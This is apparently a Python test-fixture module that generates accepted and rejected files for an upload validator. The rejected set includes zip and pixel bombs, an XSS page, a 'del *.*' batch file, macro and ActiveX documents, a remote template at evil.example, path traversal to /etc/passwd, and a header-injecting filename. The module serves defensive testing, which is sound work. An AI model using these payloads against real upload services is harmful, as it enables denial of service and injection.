"""Files that people send, and files that only somebody with bad intent would. All made here."""

import io
import struct
import zipfile
import zlib

from PIL import Image

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!" + rb"$H+H*"
"""What every virus scanner knows, and does nothing."""

PDF = b"""%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj
trailer<</Root 1 0 R>>
%%EOF
"""
HTML = b"<!doctype html><html><script>alert(document.domain)</script></html>"
DOCX_TYPES = """<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Override PartName="/word/document.xml"
ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
</Types>"""
ODT_TYPE = "application/vnd.oasis.opendocument.text"


def picture(kind: str = "JPEG", size: tuple[int, int] = (60, 40), **how: object) -> bytes:
    """Return a small picture, red on the left and blue on the right."""
    image = Image.new("RGB", size, "blue")
    image.paste("red", (0, 0, size[0] // 2, size[1]))
    out = io.BytesIO()
    image.save(out, kind, **how)
    return out.getvalue()


def photo_with_place() -> bytes:
    """Return a photo that says where and by what it was taken, and lies on its side."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "SecretPhoneMaker"
    exif.get_ifd(0x8825).update({1: "N", 2: (51.0, 30.0, 26.0), 3: "W", 4: (0.0, 7.0, 39.0)})
    return picture(exif=exif.tobytes(), comment=b"hidden words")


def archive(entries: dict[str, bytes | str], *, stored: tuple[str, ...] = ("mimetype",)) -> bytes:
    """Return a zip of ``entries`` in their order."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in entries.items():
            how = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            packed.writestr(name, content, how)
    return out.getvalue()


def docx(types: str = DOCX_TYPES, **more: bytes | str) -> bytes:
    """Return a Word document; ``more`` are entries by name, "__" for "/" and "_x_" for "."."""
    others = {name.replace("__", "/").replace("_x_", "."): text for name, text in more.items()}
    return archive(
        {
            "[Content_Types].xml": types,
            "_rels/.rels": "<Relationships/>",
            "word/document.xml": "<w:document/>",
            **others,
        }
    )


def odt(more: dict[str, bytes | str] | None = None, mimetype: str = ODT_TYPE) -> bytes:
    """Return an OpenDocument text."""
    return archive({"mimetype": mimetype, "content.xml": "<office:document/>", **(more or {})})


def huge_png(width: int, height: int) -> bytes:
    """Return a PNG of a few bytes that says it has so many dots."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return (
            struct.pack("!I", len(data)) + name + data + struct.pack("!I", zlib.crc32(name + data))
        )

    head = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * 10_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def huge_jpg(width: int, height: int) -> bytes:
    """Return a JPG of a few bytes that says it has so many dots."""
    small = picture()
    at = small.index(b"\xff\xc0") + 5
    return small[:at] + struct.pack("!HH", height, width) + small[at + 4 :]


def zip_bomb() -> bytes:
    """Return a document whose text says it is small and unpacks to more than anyone writes."""
    return docx(word__media__bomb_x_xml=b"\0" * (110 * 1024 * 1024))


def lying_bomb() -> bytes:
    """Return the same with sizes that lie: the directory says that it is small."""
    content = bytearray(docx(word__bomb_x_xml=b"\0" * (20 * 1024 * 1024)))
    at = content.rindex(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(content)


def overlapping() -> bytes:
    """Return a document two of whose entries are the same bytes, as bombs without nesting are."""
    content = bytearray(docx(word__a_x_xml="x" * 5000, word__b_x_xml="x" * 5000))
    first, second = (
        content.index(name, content.index(b"PK\x01\x02")) for name in (b"word/a.xml", b"word/b.xml")
    )
    content[second - 4 : second] = content[first - 4 : first]
    return bytes(content)


def refused() -> dict[str, tuple[str, bytes]]:
    """Return what is never taken, each with the name it is sent under, by what it is."""
    macro_types = DOCX_TYPES.replace("document.main+xml", "document.macroEnabled.main+xml")
    elsewhere = (
        '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" '
        'TargetMode="External"/>'
    )
    return {
        "empty": ("letter.pdf", b""),
        "only nothing": ("letter.pdf", b"\0" * 5000),
        "ten megabytes": ("letter.txt", b"x" * (10 * 1024 * 1024)),
        "web page": ("page.html", HTML),
        "web page called a photo": ("photo.jpg", HTML),
        "drawing with script": ("photo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
        "program": ("letter.pdf", b"MZ" + b"\0" * 200),
        "program as text": ("letter.txt", b"MZ\x90\0" + b"\0" * 200),
        "linux program": ("letter.docx", b"\x7fELF" + b"\1" * 200),
        "batch file": ("letter.bat", b"del *.*"),
        "double ending": ("letter.pdf.exe", b"MZ" + b"\1" * 200),
        "picture we do not take": ("photo.jpg", picture("GIF")),
        "old word document": ("letter.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\1" * 600),
        "spreadsheet": (
            "letter.docx",
            archive({"[Content_Types].xml": "x", "xl/workbook.xml": ""}),
        ),
        "plain archive": ("letter.docx", archive({"a.txt": "x"})),
        "broken archive": ("letter.docx", docx()[:200]),
        "archive that says it is encrypted": ("letter.docx", _encrypted()),
        "macro document": ("letter.docx", docx(macro_types)),
        "macro under another name": ("letter.docx", docx(word__vbaProject_x_bin=b"x")),
        "control that runs": ("letter.docx", docx(word__activeX__activeX1_x_xml="x")),
        "program inside": ("letter.docx", docx(word__embeddings__oleObject1_x_bin=b"x")),
        "template from elsewhere": (
            "letter.docx",
            docx(word___rels__settings_x_xml_x_rels=elsewhere),
        ),
        "basic in a text": ("letter.odt", odt({"Basic/Standard/Module1.xml": "x"})),
        "script in a text": ("letter.odt", odt({"Scripts/python/x.py": "x"})),
        "presentation": (
            "letter.odt",
            odt(mimetype="application/vnd.oasis.opendocument.presentation"),
        ),
        "way out of the folder": ("letter.odt", odt({"../../etc/passwd": "x"})),
        "zip bomb": ("letter.docx", zip_bomb()),
        "bomb that lies": ("letter.docx", lying_bomb()),
        "thousands of entries": (
            "letter.docx",
            docx(**{f"word__{number}_x_xml": "" for number in range(2100)}),
        ),
        "overlapping entries": ("letter.docx", overlapping()),
        "pixel bomb": ("photo.png", huge_png(60_000, 60_000)),
        "smaller pixel bomb": ("photo.png", huge_png(20_000, 20_000)),
        "pixel bomb as jpg": ("photo.jpg", huge_jpg(65_000, 65_000)),
        "cut off photo": ("photo.jpg", picture(size=(600, 400))[:900]),
        "pdf that is an archive too": ("letter.pdf", PDF + archive({"a.txt": "x"})),
        "archive that is a pdf too": ("letter.pdf", archive({"a.pdf": PDF}, stored=("a.pdf",))),
        "document with a web page before": ("letter.docx", HTML + docx()),
        "document with a web page behind": ("letter.docx", docx() + HTML),
        "pdf with a web page before": ("letter.pdf", HTML + PDF),
        "pdf with a web page behind": ("letter.pdf", PDF + HTML),
        "pdf cut off": ("letter.pdf", PDF[:60]),
        "text with a bell": ("letter.txt", b"ding\x07"),
    }


def taken() -> dict[str, tuple[str, bytes, str]]:
    """Return what is taken: the name it is sent under, the content, and the name it gets."""
    return {
        "pdf": ("Letter 3.4.26.PDF", PDF, "Letter 3-4-26.pdf"),
        "jpg": ("IMG_1.jpeg", picture(), "IMG_1.jpg"),
        "png": ("shot.png", picture("PNG"), "shot.png"),
        "word": ("My letter.docx", docx(), "My letter.docx"),
        "open document": ("Brief.odt", odt(), "Brief.odt"),
        "text": ("notes.TXT", "Café £5\r\n".encode(), "notes.txt"),
        "text with a mark": ("notes.txt", "Llŷn".encode("utf-8-sig"), "notes.txt"),
        "wide text": ("notes.txt", "Llŷn".encode("utf-16"), "notes.txt"),
        "old windows text": ("notes.txt", "£5 – no".encode("cp1252"), "notes.txt"),
        "photo under another kind's name": ("photo.png", picture(), "photo.jpg"),
        "photo with an archive behind": ("p.jpg", picture() + archive({"a": "x"}), "p.jpg"),
        "photo with a web page behind": ("p.png", picture("PNG") + HTML, "p.png"),
        "known virus with no scanner": ("eicar.txt", EICAR, "eicar.txt"),
        "pdf with two endings": ("bill.exe.pdf", PDF, "bill-exe.pdf"),
        "pdf called a program": ("bill.pdf.exe", PDF, "bill-pdf-exe.pdf"),
        "name turned round": ("bill\u202efdp.exe", PDF, "billfdp-exe.pdf"),
        "name with nothing to see": ("\u200b\u2066.pdf", PDF, "file.pdf"),
        "255 bytes of name": ("é" * 125 + ".pdf", PDF, "é" * 96 + ".pdf"),
        "folders in the name": ("..\\..\\/etc/passwd.txt", b"x", "passwd.txt"),
        "hidden file": (".htaccess.txt", b"x", "htaccess.txt"),
        "lines in the name": ("a\r\nSet-Cookie: x=1.pdf", PDF, "a Set-Cookie- x=1.pdf"),
        "no name": (".pdf", PDF, "file.pdf"),
    }


def _encrypted() -> bytes:
    content = bytearray(docx())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = content.rindex(mark)
        content[start + at] |= 1
    return bytes(content)
